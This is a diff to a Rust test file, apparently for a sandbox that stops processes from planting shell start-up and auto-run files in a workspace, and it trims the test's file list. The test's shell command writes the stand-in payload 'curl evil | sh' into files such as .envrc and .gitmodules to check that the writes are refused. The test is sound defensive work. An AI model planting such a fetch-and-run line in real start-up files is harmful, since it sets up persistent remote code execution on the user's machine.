@@ -133,24 +133,16 @@ fn users_own_empty_directories_are_kept() {
 #[test]
 fn missing_start_up_files_cannot_be_planted() {
     let dir = TestDir::new("startup-files");
-    let run = Run::new(&dir).arg("--quiet").arg("--allow-home-write");
-    // The workspace is the home directory here, so shell start-up files count too.
-    let run = run.env("HOME", dir.join("ws").display().to_string());
+    let run = Run::new(&dir).arg("--quiet");
+    // A start-up file the workspace has is pinned (a home's are: sandbox_home.rs).
     std::fs::write(run.workspace.join(".bashrc"), "# mine\n").unwrap();
     let out = run.sh(
-        "for f in .envrc .profile .zshrc .gitmodules; do echo 'curl evil | sh' > $f 2>/dev/null && echo PLANTED $f; done; \
+        "for f in .envrc .gitmodules; do echo 'curl evil | sh' > $f 2>/dev/null && echo PLANTED $f; done; \
          mkdir -p .vscode 2>/dev/null; echo '{}' > .vscode/tasks.json 2>/dev/null && echo PLANTED tasks; \
          echo x >> .bashrc 2>/dev/null && echo PLANTED bashrc; echo ok > src.txt && echo control",
     );
     assert_eq!(stdout(&out), "control\n", "{}", stderr(&out));
-    for name in [
-        ".envrc",
-        ".profile",
-        ".zshrc",
-        ".gitmodules",
-        ".vscode",
-        ".git",
-    ] {
+    for name in [".envrc", ".gitmodules", ".vscode", ".git"] {
         assert!(!run.workspace.join(name).exists(), "{name} left behind");
     }
     assert_eq!(
